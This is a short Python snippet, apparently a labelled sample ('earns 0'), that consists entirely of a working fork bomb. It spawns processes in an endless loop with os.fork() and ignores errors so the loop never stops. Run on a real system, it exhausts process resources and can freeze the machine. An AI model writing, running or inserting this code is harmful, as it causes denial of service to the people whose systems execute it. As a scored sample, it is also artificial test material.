# forks without end
# earns 0
import os
while True:
    try:
        os.fork()
    except OSError:
        pass
